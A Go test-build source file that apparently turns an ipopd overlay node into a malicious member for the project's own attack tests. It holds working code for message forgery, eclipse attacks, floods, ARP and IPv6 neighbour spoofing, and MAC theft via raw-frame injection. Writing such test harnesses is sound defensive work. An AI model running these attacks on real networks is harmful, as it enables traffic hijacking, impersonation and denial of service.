//go:build ipopd_attack

package node

// The attack API of the malicious-member tests (deploy/e2e/attack_test.go):
// this node, a member with a valid certificate, does on request what an
// honest node never does: messages in other nodes' names, invented node
// IDs, spoofed frames on its own TAP, floods. It listens on the control
// socket's path + ".attack" (POST /attack/{name}?...; the answer says how
// many attempts were made). Only in binaries built with the ipopd_attack
// tag (deploy/lab builds ipopd-attacker); never in ipopd.

import (
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"golang.org/x/sys/unix"

	"github.com/ipopd/ipopd/arp"
	"github.com/ipopd/ipopd/overlay/dataplane"
	"github.com/ipopd/ipopd/overlay/nodeid"
	"github.com/ipopd/ipopd/overlay/wire"
	"github.com/ipopd/ipopd/topology"
)

func init() { attackHook = serveAttacks }

// AttackResult is the answer to one attack request.
type AttackResult struct {
	Attack   string  `json:"attack"`
	Attempts int     `json:"attempts"`
	Errors   int     `json:"errors"` // attempts this node could not even send
	Seconds  float64 `json:"seconds"`
}

// attackParams are the request's query: the node spoken for (victim),
// the node attacked (target), how many attempts, and the addresses the
// frame attacks need.
type attackParams struct {
	victim, target       nodeid.ID
	n                    int
	rate                 float64 // attempts per second; 0: as fast as possible
	victimIP, victimIP6  netip.Addr
	targetIP             netip.Addr
	victimMAC, targetMAC [6]byte
	port                 int
}

type attacker struct {
	n  *Node
	dp *dataplane.Plane
}

var attacks = map[string]func(a *attacker, p *attackParams, i int) error{
	"forged-signal":     (*attacker).forgedSignal,
	"forged-membership": (*attacker).forgedMembership,
	"forged-sync":       (*attacker).forgedSync,
	"forged-advert":     (*attacker).forgedAdvert,
	"forged-neighbors":  (*attacker).forgedNeighbors,
	"squat-advert":      (*attacker).squatAdvert,
	"eclipse":           (*attacker).eclipse,
	"forged-proof":      (*attacker).forgedProof,
	"invented-offers":   (*attacker).inventedOffers,
	"invented-frames":   (*attacker).inventedFrames,
	"offer-flood":       (*attacker).offerFlood,
	"broadcast-flood":   (*attacker).broadcastFlood,
	"relay-flood":       (*attacker).relayFlood,
	"storm":             (*attacker).storm,
	"forged-broadcast":  (*attacker).forgedBroadcast,
	"spoof-ip":          (*attacker).spoofIP,
	"spoof-mac-ip":      (*attacker).spoofMACIP,
	"steal-mac":         (*attacker).stealMAC,
	"garp":              (*attacker).garp,
	"nd-na":             (*attacker).ndNA,
	"mac-flood":         (*attacker).macFlood,
}

type closers []io.Closer

func (cs closers) Close() error {
	var errs []error
	for _, c := range cs {
		errs = append(errs, c.Close())
	}
	return errors.Join(errs...)
}

func serveAttacks(n *Node) io.Closer {
	path := n.cfg.Load().Control.Socket + ".attack"
	os.Remove(path)
	ln, err := net.Listen("unix", path)
	if err != nil {
		n.log.Error("attack API not served", "err", err)
		return closers{}
	}
	a := &attacker{n: n, dp: n.data}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /attack/{name}", a.serve)
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	n.log.Warn("ATTACK BUILD: this ipopd is the malicious member of the tests", "socket", path)
	return closers{srv, closerFunc(func() error {
		if err := os.Remove(path); err != nil && !errors.Is(err, os.ErrNotExist) {
			return err
		}
		return nil
	})}
}

type closerFunc func() error

func (f closerFunc) Close() error { return f() }

func (a *attacker) serve(w http.ResponseWriter, r *http.Request) {
	name := r.PathValue("name")
	f := attacks[name]
	if f == nil {
		http.Error(w, "no such attack: "+name, http.StatusNotFound)
		return
	}
	p, err := a.params(r)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	res := AttackResult{Attack: name}
	start := time.Now()
	for i := range p.n {
		if p.rate > 0 {
			if d := time.Until(start.Add(time.Duration(float64(i) / p.rate * float64(time.Second)))); d > 0 {
				time.Sleep(d)
			}
		}
		res.Attempts++
		if err := f(a, p, i); err != nil {
			res.Errors++
			if res.Errors == 1 {
				a.n.log.Warn("attack: attempt not sent", "attack", name, "err", err)
			}
		}
	}
	res.Seconds = time.Since(start).Seconds()
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(res)
}

func (a *attacker) params(r *http.Request) (*attackParams, error) {
	q := r.URL.Query()
	names := a.n.links.mgr.Names()
	byName := func(key string) (nodeid.ID, error) {
		v := q.Get(key)
		if v == "" {
			return nodeid.ID{}, nil
		}
		for id, name := range names {
			if name == v {
				return id, nil
			}
		}
		return nodeid.ID{}, fmt.Errorf("%s: no node named %q known", key, v)
	}
	p := &attackParams{n: 1, port: 9999}
	var err error
	if p.victim, err = byName("victim"); err != nil {
		return nil, err
	}
	if p.target, err = byName("target"); err != nil {
		return nil, err
	}
	if v := q.Get("n"); v != "" {
		if p.n, err = strconv.Atoi(v); err != nil {
			return nil, fmt.Errorf("n: %w", err)
		}
	}
	if v := q.Get("rate"); v != "" {
		if p.rate, err = strconv.ParseFloat(v, 64); err != nil {
			return nil, fmt.Errorf("rate: %w", err)
		}
	}
	if v := q.Get("port"); v != "" {
		if p.port, err = strconv.Atoi(v); err != nil {
			return nil, fmt.Errorf("port: %w", err)
		}
	}
	for key, dst := range map[string]*netip.Addr{"victim_ip": &p.victimIP, "victim_ip6": &p.victimIP6, "target_ip": &p.targetIP} {
		if v := q.Get(key); v != "" {
			if *dst, err = netip.ParseAddr(v); err != nil {
				return nil, fmt.Errorf("%s: %w", key, err)
			}
		}
	}
	for key, dst := range map[string]*[6]byte{"victim_mac": &p.victimMAC, "target_mac": &p.targetMAC} {
		if v := q.Get(key); v != "" {
			mac, err := net.ParseMAC(v)
			if err != nil || len(mac) != 6 {
				return nil, fmt.Errorf("%s: %q is not a MAC", key, v)
			}
			copy(dst[:], mac)
		}
	}
	return p, nil
}

// --- Messages in another node's name ---------------------------------

// forge sends control message msg to dst as if from src, in one of three
// disguises: signed by this node without a certificate, signed by this
// node with its own certificate, and sealed end to end with this node's
// key (the end-to-end layer of a node that is not src).
func (a *attacker) forge(src, dst nodeid.ID, msg []byte, i int) error {
	s := a.dp.Signer()
	h := topology.Route{Src: src, Dst: dst, TTL: topology.HopLimit, Control: true}
	env, err := s.Seal(dst, msg, i%3 != 0)
	if err != nil {
		return err
	}
	if i%3 == 2 {
		if env, err = a.dp.SealFor(dst, wire.FlagControl, env); err != nil {
			return err
		}
		h.Sealed = true
	}
	return a.dp.Forge(dst, h, env)
}

func (a *attacker) forgedSignal(p *attackParams, i int) error {
	kinds := []string{`{"kind":"bye","session":%d}`, `{"kind":"knock","boot":%d}`,
		`{"kind":"offer","session":%d,"boot":7,"ufrag":"abcdefgh","pwd":"abcdefghijklmnopqrstuvwxyz"}`}
	msg := append([]byte{dataplane.KindSignal}, fmt.Sprintf(kinds[i%len(kinds)], i+1)...)
	return a.forge(p.victim, p.target, msg, i/len(kinds))
}

func membership(m *topology.Message) []byte {
	b, err := m.MarshalBinary()
	if err != nil {
		panic(err) // the messages below are valid
	}
	return append([]byte{dataplane.KindMembership}, b...)
}

// forgedMembership: the victim's full state at the highest seq, with no
// groups (unsubscribing it everywhere), as a broadcast and to the target.
func (a *attacker) forgedMembership(p *attackParams, i int) error {
	msg := membership(&topology.Message{Kind: topology.KindFull, Epoch: randUint64(), Seq: ^uint64(0), Refresh: time.Minute})
	if i%2 == 0 {
		env, err := a.dp.Signer().Seal(nodeid.ID{}, msg, true)
		if err != nil {
			return err
		}
		a.dp.ForgeBroadcast(p.victim, true, env)
		return nil
	}
	return a.forge(p.victim, p.target, msg, i/2)
}

// forgedSync: a Sync in the victim's name, which would make the target
// send the victim its state (reflection).
func (a *attacker) forgedSync(p *attackParams, i int) error {
	return a.forge(p.victim, p.target, membership(&topology.Message{Kind: topology.KindSync}), i)
}

func (a *attacker) mac() [6]byte { return [6]byte(a.n.dev.HardwareAddr()) }

func advert(ad *arp.Advert) []byte {
	b, err := ad.MarshalBinary()
	if err != nil {
		panic(err)
	}
	return append([]byte{dataplane.KindNeighbours}, b...)
}

// forgedAdvert: the victim's hosts, said to be at this node's MAC, in
// the victim's name.
func (a *attacker) forgedAdvert(p *attackParams, i int) error {
	msg := advert(&arp.Advert{Full: true, Hosts: []arp.Host{{IP: p.victimIP, MAC: a.mac()}}})
	env, err := a.dp.Signer().Seal(nodeid.ID{}, msg, true)
	if err != nil {
		return err
	}
	a.dp.ForgeBroadcast(p.victim, true, env)
	return nil
}

// squatAdvert: this node's own advert, honestly signed, claiming the
// victim's addresses.
func (a *attacker) squatAdvert(p *attackParams, i int) error {
	hosts := []arp.Host{{IP: p.victimIP, MAC: a.mac()}}
	if p.victimIP6.IsValid() {
		hosts = append(hosts, arp.Host{IP: p.victimIP6, MAC: a.mac(), Role: arp.RoleHost})
	}
	a.dp.BroadcastControl(advert(&arp.Advert{Full: true, Hosts: hosts}))
	return nil
}

func neighbors(m *topology.Neighbors) []byte {
	b, err := m.AppendBinary([]byte{dataplane.KindRing})
	if err != nil {
		panic(err)
	}
	return b
}

// forgedNeighbors: a neighbour list in the victim's name (routed, where
// only direct ones count), saying it wants no link to the target.
func (a *attacker) forgedNeighbors(p *attackParams, i int) error {
	return a.forge(p.victim, p.target, neighbors(&topology.Neighbors{Links: []topology.NeighborLink{{ID: p.target}}}), i)
}

// eclipse: this node's own neighbour list, over its link to the target,
// with 255 invented IDs right after the target on the ring (where its
// successors are) and a claimed link to the victim.
func (a *attacker) eclipse(p *attackParams, i int) error {
	links := []topology.NeighborLink{{ID: p.victim, Wanted: true}}
	for j := range topology.MaxNeighbors - 1 {
		id := p.target
		binary.BigEndian.PutUint32(id[8:], uint32(i*topology.MaxNeighbors+j+1))
		id[31] ^= 0x5a
		links = append(links, topology.NeighborLink{ID: id, Wanted: true})
	}
	slices.SortFunc(links, func(x, y topology.NeighborLink) int { return x.ID.Compare(y.ID) })
	return a.dp.SendControl(p.target, neighbors(&topology.Neighbors{Links: links}))
}

// forgedProof: a proof that the victim is linked to this node (which
// would make this node a way toward the victim in the target's routes),
// made with this node's key and labelled as the victim's, shown to the
// target.
func (a *attacker) forgedProof(p *attackParams, i int) error {
	proof, err := a.dp.Signer().ProveLink(a.n.id.ID)
	if err != nil {
		return err
	}
	copy(proof[1:33], p.victim[:])
	return a.dp.SendControl(p.target, append([]byte{dataplane.KindProof, 1, 1}, proof...))
}

func inventedID() nodeid.ID {
	var id nodeid.ID
	rand.Read(id[:])
	return id
}

func randUint64() uint64 {
	var b [8]byte
	rand.Read(b[:])
	return binary.BigEndian.Uint64(b[:]) | 1
}

// inventedOffers: offers from node IDs that exist nowhere, each signed by
// this node (with and without its certificate).
func (a *attacker) inventedOffers(p *attackParams, i int) error {
	msg := append([]byte{dataplane.KindSignal}, fmt.Sprintf(`{"kind":"offer","session":%d,"boot":7,"ufrag":"abcdefgh","pwd":"abcdefghijklmnopqrstuvwxyz"}`, randUint64())...)
	env, err := a.dp.Signer().Seal(p.target, msg, i%2 == 0)
	if err != nil {
		return err
	}
	return a.dp.Forge(p.target, topology.Route{Src: inventedID(), Dst: p.target, TTL: topology.HopLimit, Control: true}, env)
}

// inventedFrames: routed frames from node IDs that exist nowhere (each
// makes the target wait for a certificate and ask for it).
func (a *attacker) inventedFrames(p *attackParams, i int) error {
	junk := make([]byte, 200)
	rand.Read(junk)
	return a.dp.Forge(p.target, topology.Route{Src: inventedID(), Dst: p.target, TTL: topology.HopLimit, Sealed: true}, junk)
}

// --- Floods -------------------------------------------------------------

// offerFlood: this node's own offers, validly signed, each a new
// session (each would cost the target an ICE agent).
func (a *attacker) offerFlood(p *attackParams, i int) error {
	msg := append([]byte{dataplane.KindSignal}, fmt.Sprintf(`{"kind":"offer","session":%d,"boot":7,"ufrag":"abcdefgh","pwd":"abcdefghijklmnopqrstuvwxyz"}`, randUint64())...)
	return a.dp.SendControl(p.target, msg)
}

// broadcastFlood: ring broadcasts of this node's own (valid) host advert.
func (a *attacker) broadcastFlood(p *attackParams, i int) error {
	a.dp.BroadcastControl(advert(&arp.Advert{Full: true}))
	return nil
}

// relayFlood: messages to the target through the rendezvous.
func (a *attacker) relayFlood(p *attackParams, i int) error {
	if a.n.links.client == nil {
		return errors.New("no rendezvous")
	}
	return a.n.links.client.Send(p.target, []byte(fmt.Sprintf(`{"kind":"knock","boot":%d}`, i+1)))
}

// storm: a broadcast whose arc ends at the target, which would make it
// broadcast to the whole ring again.
func (a *attacker) storm(p *attackParams, i int) error {
	env, err := a.dp.Signer().Seal(nodeid.ID{}, advert(&arp.Advert{Full: true}), true)
	if err != nil {
		return err
	}
	return a.dp.Forge(p.target, topology.Route{Src: a.n.id.ID, Dst: p.target, TTL: topology.HopLimit, Broadcast: true, Control: true}, env)
}

// forgedBroadcast: a ring broadcast frame in the victim's name (a
// gratuitous ARP saying the victim's IP is at this node's MAC), as a
// node passing broadcasts on could make one: in the clear, or signed
// with this node's key.
func (a *attacker) forgedBroadcast(p *attackParams, i int) error {
	bcast := [6]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	f := (&arp.ARP{Eth: arp.Eth{Dst: bcast, Src: p.victimMAC}, Op: arp.OpRequest, SenderMAC: a.mac(), SenderIP: p.victimIP,
		TargetIP: p.victimIP}).AppendFrame(nil)
	if i%2 == 1 {
		env, err := a.dp.Signer().Seal(nodeid.ID{}, append([]byte{0}, f...), true)
		if err != nil {
			return err
		}
		f = env
	}
	a.dp.ForgeBroadcast(p.victim, false, f)
	return nil
}

// --- Frames on this node's own TAP --------------------------------------

// inject writes frames onto this node's TAP as the kernel would: an
// AF_PACKET socket bound to it, so that ipopd's own TAP reader reads them.
func (a *attacker) inject(frames ...[]byte) error {
	ifi, err := net.InterfaceByName(a.n.dev.Name())
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}
	for _, f := range frames {
		if err := unix.Sendto(fd, f, 0, to); err != nil {
			return err
		}
	}
	return nil
}

func (a *attacker) ownIP() netip.Addr {
	return a.n.cfg.Load().Tap.Address.Addr()
}

// udpFrame is a UDP datagram to the target's overlay address and port.
func udpFrame(srcMAC, dstMAC [6]byte, src, dst netip.Addr, port int, payload string) []byte {
	eth := &layers.Ethernet{SrcMAC: srcMAC[:], DstMAC: dstMAC[:], EthernetType: layers.EthernetTypeIPv4}
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolUDP, SrcIP: src.AsSlice(), DstIP: dst.AsSlice()}
	udp := &layers.UDP{SrcPort: 40000, DstPort: layers.UDPPort(port)}
	udp.SetNetworkLayerForChecksum(ip)
	buf := gopacket.NewSerializeBuffer()
	gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, eth, ip, udp, gopacket.Payload(payload))
	return buf.Bytes()
}

// spoofIP: datagrams from the victim's IP, this node's MAC.
func (a *attacker) spoofIP(p *attackParams, i int) error {
	return a.inject(udpFrame(a.mac(), p.targetMAC, p.victimIP, p.targetIP, p.port, "spoof-ip"))
}

// spoofMACIP: datagrams from the victim's IP and MAC.
func (a *attacker) spoofMACIP(p *attackParams, i int) error {
	return a.inject(udpFrame(p.victimMAC, p.targetMAC, p.victimIP, p.targetIP, p.port, "spoof-mac-ip"))
}

// stealMAC: datagrams from the victim's MAC but this node's own IP (to
// take the MAC, and the victim's unicast traffic with it).
func (a *attacker) stealMAC(p *attackParams, i int) error {
	return a.inject(udpFrame(p.victimMAC, p.targetMAC, a.ownIP(), p.targetIP, p.port, "steal-mac"))
}

// garp: a gratuitous ARP saying the victim's IP is at this node's MAC.
func (a *attacker) garp(p *attackParams, i int) error {
	bcast := [6]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	op := uint16(arp.OpReply)
	if i%2 == 0 {
		op = arp.OpRequest
	}
	f := (&arp.ARP{Eth: arp.Eth{Dst: bcast, Src: a.mac()}, Op: op, SenderMAC: a.mac(), SenderIP: p.victimIP,
		TargetIP: p.victimIP}).AppendFrame(nil)
	return a.inject(f)
}

// ndNA: an unsolicited, overriding neighbour advertisement saying the
// victim's IPv6 address is at this node's MAC.
func (a *attacker) ndNA(p *attackParams, i int) error {
	mac := a.mac()
	ll := netip.AddrFrom16([16]byte{0xfe, 0x80, 8: mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]})
	f := (&arp.ND{Eth: arp.Eth{Dst: [6]byte{0x33, 0x33, 0, 0, 0, 1}, Src: mac}, Src: ll, Dst: netip.MustParseAddr("ff02::1"),
		Type: arp.TypeNA, Override: true, Target: p.victimIP6, LinkAddr: mac, HasLinkAddr: true}).AppendFrame(nil)
	return a.inject(f)
}

// macFlood: datagrams from this node's own IP, each from a new MAC.
func (a *attacker) macFlood(p *attackParams, i int) error {
	frames := make([][]byte, 0, 64)
	for j := range 64 {
		var mac [6]byte
		binary.BigEndian.PutUint32(mac[2:], uint32(i*64+j))
		mac[0] = 0x02 // locally administered unicast
		mac[1] = 0xa7
		frames = append(frames, udpFrame(mac, p.targetMAC, a.ownIP(), p.targetIP, p.port, "mac-flood"))
	}
	return a.inject(frames...)
}
